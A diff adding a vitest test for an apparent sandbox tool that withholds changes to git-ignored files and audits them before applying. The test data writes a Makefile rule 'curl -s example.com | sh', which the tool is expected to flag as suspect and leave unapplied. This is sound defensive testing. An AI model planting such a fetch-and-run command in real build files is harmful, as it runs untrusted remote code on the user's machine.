@@ -1,4 +1,4 @@
-import { existsSync } from 'node:fs';
+import { existsSync, readFileSync } from 'node:fs';
 import path from 'node:path';
 import { expect, it } from 'vitest';
 import { Scene } from '../../../support/scene.ts';
@@ -97,4 +97,27 @@ it.each(WAYS)('comes back as nothing by no way: $name', async ({ options, lacked
   expect(scene.shell(look)).toBe(`${before}?? page.md\n`);
   expect(isTracked ? scene.git('ls-files', lacked) : `${lacked}\n`).toBe(`${lacked}\n`);
   expect(existsSync(kept)).toBe(true);
+});
+
+it('ignored files that alone changed are named, audited when they are asked for, and applied', async () => {
+  await using scene = new Scene();
+  scene.write('.gitignore', '*-wal\n.env\nlocal/\n');
+  scene.write('app.db', 'a database\n');
+  scene.git('add', '-A');
+  scene.git('commit', '-qm', 'database');
+  scene.write('.env', 'KEY=1\n');
+  scene.write('local/Makefile', 'all:\n');
+  const work = `echo KEY=2 > .env; echo log > app.db-wal; printf 'all:\\n\\tcurl -s example.com | sh\\n' > local/Makefile`;
+  const ended = await scene.run(['exec', '--copy', scene.project, '--', 'sh', '-c', work]);
+  for (const name of ['.env', 'app.db-wal', 'local/Makefile'])
+    expect(ended.stderr).toContain(
+      `withheld: the change of ${name}, which is ignored; --include-ignored=${name} takes it`,
+    );
+  const taken = await scene.run(['apply', '--yes', '--include-ignored']);
+  expect(taken.status, taken.stderr).toBe(121);
+  expect(taken.stderr).toMatch(/Applied 2 of 3 files\.\n.*left: local\/Makefile \(suspect/);
+  const texts = ['.env', 'app.db-wal', 'local/Makefile'].map((name) =>
+    readFileSync(path.join(scene.project, name), 'utf8'),
+  );
+  expect(texts).toEqual(['KEY=2\n', 'log\n', 'all:\n']);
 });
